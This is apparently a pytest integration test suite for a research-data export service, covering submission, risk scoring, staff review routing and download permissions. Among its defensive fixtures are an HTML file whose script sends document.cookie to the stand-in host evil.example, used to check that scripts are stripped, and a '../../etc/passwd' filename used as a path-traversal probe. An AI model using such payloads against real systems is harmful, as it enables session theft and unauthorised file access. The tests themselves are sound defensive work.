"""Exports end to end: a bubble submits, the real checks score, governance routes, staff review, members download.

Everything is real: the app in-process on SQLite then PostgreSQL, OPA, Keycloak (people with two
factors), versitygw. Every refusal compares a snapshot of rows, audit events, OPA data and S3
objects and uploads before and after.
"""

from __future__ import annotations

import dataclasses
import hashlib
import random
from typing import Any

import pytest
import requests
from sqlalchemy import select

from infracalc.audit import AuditEvent
from infracalc.casd.checks import CheckSettings
from infracalc.casd.exports import ExportSettings
from infracalc.db import Governance, SessionEvent, create_engine, session_factory
from infracalc.service.context import ServiceContext
from tests.fixtures.service import People, ServiceUnderTest

pytestmark = pytest.mark.integration

JUSTIFICATION = "Aggregated birth counts by region for the 2021 paper, table 2."
SECOND_STAFF = "second-staff"


def low_risk_csv() -> bytes:
    """Every count well above the threshold: nothing to flag."""
    rows = ["region,2020,2021,2022"]
    rows += [f"region-{index},{120 + index},{340 + index},{560 + index}" for index in range(12)]
    return ("\n".join(rows) + "\n").encode()


def medium_risk_csv() -> bytes:
    """Half the counts small, half large."""
    rows = ["region,2020,2021,2022"]
    rows += [f"region-{index},{120 + index},{340 + index},{560 + index}" for index in range(6)]
    rows += [f"small-{index},{3 + index},{4 + index},{5 + index}" for index in range(6)]
    return ("\n".join(rows) + "\n").encode()


def high_risk_csv() -> bytes:
    """Nearly every count small, and zeros: two rules flag it."""
    rows = ["region,2020,2021,2022"]
    rows += [f"region-{index},{index % 8},{2 + index % 7},{3 + index % 6}" for index in range(12)]
    return ("\n".join(rows) + "\n").encode()


HTML = (
    b"<html><head><script>fetch('https://evil.example/'+document.cookie)</script></head>"
    b"<body><p>Table 1</p></body></html>"
)


def second_staff(people: People) -> None:
    """A second CASD staff member (two distinct reviewers)."""
    if SECOND_STAFF not in people.accounts:
        people.accounts[SECOND_STAFF] = people.keycloak.add_account(SECOND_STAFF, ("casd-staff",))


async def project(service: ServiceUnderTest, people: People, slug: str, governance: Governance, *members: str) -> None:
    staff = people.headers("staff")
    created = await service.client.post(
        "/api/v1/projects", json={"id": slug, "title": slug, "governance": governance.value}, headers=staff
    )
    assert created.status_code == 201, created.text
    for who in members:
        added = await service.client.put(
            f"/api/v1/projects/{slug}/members/{people.username(who)}", json={"role": "member"}, headers=staff
        )
        assert added.status_code == 200, added.text


async def bubble(service: ServiceUnderTest, people: People, slug: str, who: str = "researcher") -> dict[str, str]:
    """A bubble registered by the hub for ``who``; its Authorization header."""
    answer = await service.client.post(
        "/api/v1/bubbles",
        json={"project": slug, "username": people.username(who), "address": None},
        headers=people.hub_headers(),
    )
    assert answer.status_code == 201, answer.text
    return {"Authorization": f"Bearer {answer.json()['token']}", "X-Bubble-Id": answer.json()["id"]}


async def submit(
    service: ServiceUnderTest,
    headers: dict[str, str],
    slug: str,
    content: bytes,
    *,
    name: str = "table.csv",
    justification: str = JUSTIFICATION,
    contributors: str | None = None,
) -> Any:
    data = {"justification": justification}
    if contributors is not None:
        data["contributors"] = contributors
    return await service.client.post(
        f"/api/v1/projects/{slug}/exports",
        files={"file": (name, content, "application/octet-stream")},
        data=data,
        headers={"Authorization": headers["Authorization"]},
    )


async def vote(service: ServiceUnderTest, people: People, who: str, export_id: str, verdict: str) -> Any:
    return await service.client.post(
        f"/api/v1/exports/{export_id}/reviews",
        json={"verdict": verdict, "comment": f"{verdict} by {who}"},
        headers=people.headers(who),
    )


async def audit_actions(service: ServiceUnderTest) -> list[tuple[str, dict[str, Any]]]:
    engine = create_engine(service.settings.database)
    try:
        async with session_factory(engine)() as session:
            events = (await session.scalars(select(AuditEvent).order_by(AuditEvent.seq))).all()
            return [(event.action, event.details) for event in events if event.action.startswith("export.")]
    finally:
        await engine.dispose()


async def session_kinds(service: ServiceUnderTest, session_id: str) -> list[str]:
    engine = create_engine(service.settings.database)
    try:
        async with session_factory(engine)() as session:
            rows = await session.scalars(
                select(SessionEvent.kind).where(SessionEvent.session_id == session_id).order_by(SessionEvent.id)
            )
            return [kind for kind in rows.all() if kind.startswith("export.")]
    finally:
        await engine.dispose()


def use_context(service: ServiceUnderTest, **changes: Any) -> None:
    """Swap collaborators of the running service (a seeded sampler, a smaller cap)."""
    context: ServiceContext = service.app.state.context
    service.app.state.context = dataclasses.replace(context, **changes)


async def test_low_risk_under_infracalc_is_released_at_once_and_members_download_it(
    service: ServiceUnderTest, people: People
) -> None:
    await project(service, people, "weather", Governance.INFRACALC, "researcher")
    await project(service, people, "cohort", Governance.CASD, "outsider")
    headers = await bubble(service, people, "weather")
    content = low_risk_csv()

    answer = await submit(service, headers, "weather", content)
    assert answer.status_code == 201, answer.text
    export = answer.json()
    assert (export["state"], export["risk_level"], export["required_reviews"]) == ("released", "low", 0)
    assert export["requested_by"] == people.username("researcher")
    assert export["versions"][0]["sha256"] == hashlib.sha256(content).hexdigest()

    (key,) = await service.objects.keys("projects/weather/exports/")
    assert key == f"projects/weather/exports/{export['id']}/v1/table.csv"
    assert await service.objects.governance_of(key) == Governance.INFRACALC
    actions = [action for action, _ in await audit_actions(service)]
    assert actions == ["export.submit", "export.sample", "export.release"]
    assert await session_kinds(service, headers["X-Bubble-Id"]) == actions

    link = await service.client.get(f"/api/v1/exports/{export['id']}/download", headers=people.headers("researcher"))
    assert link.status_code == 200, link.text
    fetched = requests.get(link.json()["url"], timeout=30)
    assert fetched.status_code == 200
    assert fetched.content == content
    assert [action for action, _ in await audit_actions(service)][-1] == "export.download"

    before = await service.snapshot()
    for who, reason in (
        ("outsider", "only members of project weather may download its exports"),
        ("staff", "only members of project weather may download its exports"),
    ):
        refused = await service.client.get(f"/api/v1/exports/{export['id']}/download", headers=people.headers(who))
        assert refused.status_code == 403, refused.text
        assert refused.json()["message"] == reason
    by_bubble = await service.client.get(
        f"/api/v1/exports/{export['id']}/download", headers={"Authorization": headers["Authorization"]}
    )
    assert by_bubble.status_code == 403
    assert await service.snapshot() == before


async def test_the_post_release_sample_is_a_seeded_audited_draw(service: ServiceUnderTest, people: People) -> None:
    await project(service, people, "weather", Governance.INFRACALC, "researcher")
    headers = await bubble(service, people, "weather")
    seed, count = 2, 25
    replay = random.Random(seed)
    expected_draws = [replay.random() for _ in range(count)]
    expected = [draw < 0.10 for draw in expected_draws]
    assert any(expected), "pick a seed whose draws hold both outcomes"
    assert not all(expected)
    use_context(service, export_sampler=random.Random(seed))

    sampled = []
    for index in range(count):
        answer = await submit(service, headers, "weather", low_risk_csv(), name=f"table-{index}.csv")
        assert answer.status_code == 201, answer.text
        assert answer.json()["state"] == "released"
        sampled.append(answer.json()["sampled"])
    assert sampled == expected

    draws = [details for action, details in await audit_actions(service) if action == "export.sample"]
    assert [d["draw"] for d in draws] == expected_draws
    assert [d["sampled"] for d in draws] == expected
    assert {d["rate"] for d in draws} == {0.10}

    queue = await service.client.get("/api/v1/exports", headers=people.headers("staff"))
    assert queue.status_code == 200
    assert len(queue.json()) == sum(expected)
    assert all(item["state"] == "released" and item["sampled"] for item in queue.json())
    # A review after release: an approval confirms it, and it leaves the queue.
    first = queue.json()[0]["id"]
    approved = await vote(service, people, "staff", first, "approve")
    assert approved.status_code == 200, approved.text
    assert approved.json()["state"] == "released"
    after = await service.client.get("/api/v1/exports", headers=people.headers("staff"))
    assert first not in {item["id"] for item in after.json()}


async def test_medium_risk_needs_one_reviewer(service: ServiceUnderTest, people: People) -> None:
    await project(service, people, "weather", Governance.INFRACALC, "researcher")
    headers = await bubble(service, people, "weather")
    answer = await submit(service, headers, "weather", medium_risk_csv())
    assert answer.status_code == 201, answer.text
    export = answer.json()
    assert (export["risk_level"], export["state"], export["required_reviews"]) == ("medium", "in_review", 1)
    assert export["reasons"], "the findings reach the requester"

    early = await service.client.get(f"/api/v1/exports/{export['id']}/download", headers=people.headers("researcher"))
    assert early.status_code == 409
    assert "once released" in early.json()["message"]

    queue = await service.client.get("/api/v1/exports?state=in_review", headers=people.headers("staff"))
    assert [item["id"] for item in queue.json()] == [export["id"]]
    # The reviewer reads the file before deciding; the researcher may not, before release.
    inspected = await service.client.get(f"/api/v1/exports/{export['id']}/inspect", headers=people.headers("staff"))
    assert inspected.status_code == 200, inspected.text
    assert requests.get(inspected.json()["url"], timeout=10).content == medium_risk_csv()
    peeked = await service.client.get(f"/api/v1/exports/{export['id']}/inspect", headers=people.headers("researcher"))
    assert peeked.status_code == 403
    assert peeked.json()["message"] == "only CASD staff may read exports under review"
    no_version = await service.client.get(
        f"/api/v1/exports/{export['id']}/inspect?version=2", headers=people.headers("staff")
    )
    assert no_version.status_code == 404
    approved = await vote(service, people, "staff", export["id"], "approve")
    assert approved.status_code == 200, approved.text
    assert approved.json()["state"] == "released"
    actions = [action for action, _ in await audit_actions(service)]
    assert actions == ["export.submit", "export.inspect", "export.review", "export.release"]


async def test_high_risk_needs_two_distinct_reviewers(service: ServiceUnderTest, people: People) -> None:
    second_staff(people)
    await project(service, people, "weather", Governance.INFRACALC, "researcher")
    headers = await bubble(service, people, "weather")
    answer = await submit(service, headers, "weather", high_risk_csv())
    assert answer.status_code == 201, answer.text
    export = answer.json()
    assert (export["risk_level"], export["state"], export["required_reviews"]) == ("high", "in_review", 2)

    first = await vote(service, people, "staff", export["id"], "approve")
    assert first.status_code == 200
    assert first.json()["state"] == "in_review"
    before = await service.snapshot()
    again = await vote(service, people, "staff", export["id"], "approve")
    assert again.status_code == 409
    assert "one vote per reviewer and version" in again.json()["message"]
    assert await service.snapshot() == before

    second = await vote(service, people, SECOND_STAFF, export["id"], "approve")
    assert second.status_code == 200, second.text
    assert second.json()["state"] == "released"
    assert [r["reviewer"] for r in second.json()["reviews"]] == [
        people.username("staff"),
        people.username(SECOND_STAFF),
    ]


async def test_under_casd_even_a_low_risk_export_is_reviewed(service: ServiceUnderTest, people: People) -> None:
    await project(service, people, "cohort", Governance.CASD, "researcher")
    headers = await bubble(service, people, "cohort")
    answer = await submit(service, headers, "cohort", low_risk_csv())
    assert answer.status_code == 201, answer.text
    export = answer.json()
    assert (export["risk_level"], export["state"], export["required_reviews"]) == ("low", "in_review", 1)
    (key,) = await service.objects.keys("projects/cohort/exports/")
    assert await service.objects.governance_of(key) == Governance.CASD
    rejected = await vote(service, people, "staff", export["id"], "reject")
    assert rejected.status_code == 200
    assert rejected.json()["state"] == "rejected"
    late = await vote(
        service, people, SECOND_STAFF if SECOND_STAFF in people.accounts else "staff", export["id"], "approve"
    )
    assert late.status_code == 409


async def test_the_requester_never_reviews_their_own_export(service: ServiceUnderTest, people: People) -> None:
    await project(service, people, "cohort", Governance.CASD, "staff")
    headers = await bubble(service, people, "cohort", who="staff")
    export = (await submit(service, headers, "cohort", low_risk_csv())).json()
    before = await service.snapshot()
    refused = await vote(service, people, "staff", export["id"], "approve")
    assert refused.status_code == 403
    assert refused.json()["message"] == "the requester of an export may not review it"
    assert await service.snapshot() == before


async def test_changes_requested_then_a_new_version_starts_the_votes_again(
    service: ServiceUnderTest, people: People
) -> None:
    second_staff(people)
    await project(service, people, "weather", Governance.INFRACALC, "researcher")
    headers = await bubble(service, people, "weather")
    export = (await submit(service, headers, "weather", high_risk_csv())).json()
    assert (await vote(service, people, "staff", export["id"], "approve")).json()["state"] == "in_review"
    changes = await vote(service, people, SECOND_STAFF, export["id"], "changes")
    assert changes.json()["state"] == "changes_requested"

    new = await service.client.post(
        f"/api/v1/exports/{export['id']}/versions",
        files={"file": ("table.csv", high_risk_csv(), "text/csv")},
        data={"justification": JUSTIFICATION + " Small cells now merged as asked."},
        headers={"Authorization": headers["Authorization"]},
    )
    assert new.status_code == 201, new.text
    assert (new.json()["state"], new.json()["current_version"]) == ("in_review", 2)
    assert [v["version"] for v in new.json()["versions"]] == [1, 2]
    assert await service.objects.keys(f"projects/weather/exports/{export['id']}/") == [
        f"projects/weather/exports/{export['id']}/v1/table.csv",
        f"projects/weather/exports/{export['id']}/v2/table.csv",
    ]
    # The staff member who approved version 1 votes again on version 2, and one approval is not enough.
    again = await vote(service, people, "staff", export["id"], "approve")
    assert again.status_code == 200, again.text
    assert again.json()["state"] == "in_review"
    done = await vote(service, people, SECOND_STAFF, export["id"], "approve")
    assert done.json()["state"] == "released"
    assert [(r["version"], r["verdict"]) for r in done.json()["reviews"]] == [
        (1, "approve"),
        (1, "changes"),
        (2, "approve"),
        (2, "approve"),
    ]
    # No new version once it is released.
    late = await service.client.post(
        f"/api/v1/exports/{export['id']}/versions",
        files={"file": ("table.csv", low_risk_csv(), "text/csv")},
        data={"justification": JUSTIFICATION},
        headers={"Authorization": headers["Authorization"]},
    )
    assert late.status_code == 409


async def test_a_file_that_fails_the_checks_is_refused_with_nothing_stored(
    service: ServiceUnderTest, people: People
) -> None:
    await project(service, people, "weather", Governance.INFRACALC, "researcher")
    headers = await bubble(service, people, "weather")
    before = await service.snapshot()
    answer = await submit(service, headers, "weather", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8, name="a.out")
    assert answer.status_code == 422, answer.text
    assert answer.json()["message"].startswith("the output checks refused the file: ")
    after = await service.snapshot()
    assert after["s3_objects"] == before["s3_objects"]
    assert after["s3_uploads"] == before["s3_uploads"] == []
    assert after["exports"] == before["exports"] == {}
    assert after["counts"]["Export"] == after["counts"]["ExportVersion"] == 0
    assert after["counts"]["AuditEvent"] == before["counts"]["AuditEvent"] + 1
    ((action, details),) = await audit_actions(service)
    assert action == "export.refuse"
    assert details["reasons"]


@pytest.mark.parametrize(
    ("justification", "field"),
    [("too short", "justification"), (" " * 30 + "short" + " " * 30, "justification")],
)
async def test_a_short_justification_is_refused_and_nothing_changes(
    service: ServiceUnderTest, people: People, justification: str, field: str
) -> None:
    await project(service, people, "weather", Governance.INFRACALC, "researcher")
    headers = await bubble(service, people, "weather")
    before = await service.snapshot()
    answer = await submit(service, headers, "weather", low_risk_csv(), justification=justification)
    assert answer.status_code == 422
    assert answer.json()["field"] == field
    assert "at least 20 characters" in answer.json()["message"]
    assert await service.snapshot() == before


async def test_a_file_over_the_cap_is_refused_and_nothing_changes(service: ServiceUnderTest, people: People) -> None:
    await project(service, people, "weather", Governance.INFRACALC, "researcher")
    headers = await bubble(service, people, "weather")
    context: ServiceContext = service.app.state.context
    small = dataclasses.replace(context.settings, exports=ExportSettings(checks=CheckSettings(max_bytes=1024)))
    use_context(service, settings=small)
    before = await service.snapshot()
    answer = await submit(service, headers, "weather", low_risk_csv() * 20)
    assert answer.status_code == 413
    assert "1024 bytes" in answer.json()["message"]
    assert await service.snapshot() == before


async def test_malformed_uploads_are_refused_and_nothing_changes(service: ServiceUnderTest, people: People) -> None:
    await project(service, people, "weather", Governance.INFRACALC, "researcher")
    headers = await bubble(service, people, "weather")
    auth = {"Authorization": headers["Authorization"]}
    before = await service.snapshot()
    as_json = await service.client.post("/api/v1/projects/weather/exports", json={"file": "x"}, headers=auth)
    assert as_json.status_code == 415
    truncated = await service.client.post(
        "/api/v1/projects/weather/exports",
        content=b'--b\r\nContent-Disposition: form-data; name="file"; filename="t.csv"\r\n\r\nregion,1\r\n',
        headers={**auth, "Content-Type": "multipart/form-data; boundary=b"},
    )
    assert truncated.status_code == 400
    assert "incomplete" in truncated.json()["message"]
    no_file = await service.client.post(
        "/api/v1/projects/weather/exports",
        data={"justification": JUSTIFICATION},
        files={"x": ("a", b"1")},
        headers=auth,
    )
    assert no_file.status_code == 422
    traversal = await submit(service, headers, "weather", low_risk_csv(), name="../../etc/passwd")
    assert traversal.status_code == 422
    assert traversal.json()["field"] == "name"
    assert await service.snapshot() == before


async def test_only_a_bubble_of_the_project_submits(service: ServiceUnderTest, people: People) -> None:
    await project(service, people, "weather", Governance.INFRACALC, "researcher")
    await project(service, people, "cohort", Governance.CASD, "researcher")
    other = await bubble(service, people, "cohort")
    before = await service.snapshot()
    by_other = await submit(service, other, "weather", low_risk_csv())
    assert by_other.status_code == 403
    assert by_other.json()["message"] == "a bubble may only submit and read exports of its own project"
    by_person = await submit(service, {"Authorization": people.headers("researcher")["Authorization"]}, "weather", b"x")
    assert by_person.status_code == 403
    assert by_person.json()["message"] == "exports are submitted from a bubble of the project"
    assert await service.snapshot() == before


async def test_html_is_stored_without_its_scripts(service: ServiceUnderTest, people: People) -> None:
    await project(service, people, "cohort", Governance.CASD, "researcher")
    headers = await bubble(service, people, "cohort")
    answer = await submit(service, headers, "cohort", HTML, name="table.html")
    assert answer.status_code == 201, answer.text
    (key,) = await service.objects.keys("projects/cohort/exports/")
    stored = b"".join([chunk async for chunk in service.objects.read(key)])
    assert b"<script" not in stored.lower()
    assert b"Table 1" in stored
    submitted = [details for action, details in await audit_actions(service) if action == "export.submit"]
    assert submitted[0]["scripts_stripped"] is True


async def test_members_list_their_project_exports_and_outsiders_do_not(
    service: ServiceUnderTest, people: People
) -> None:
    await project(service, people, "weather", Governance.INFRACALC, "researcher")
    headers = await bubble(service, people, "weather")
    export = (await submit(service, headers, "weather", low_risk_csv())).json()
    listed = await service.client.get("/api/v1/projects/weather/exports", headers=people.headers("researcher"))
    assert [item["id"] for item in listed.json()] == [export["id"]]
    one = await service.client.get(
        f"/api/v1/exports/{export['id']}", headers={"Authorization": headers["Authorization"]}
    )
    assert one.status_code == 200
    outsider = await service.client.get("/api/v1/projects/weather/exports", headers=people.headers("outsider"))
    assert outsider.status_code == 403
    queue = await service.client.get("/api/v1/exports", headers=people.headers("researcher"))
    assert queue.status_code == 403
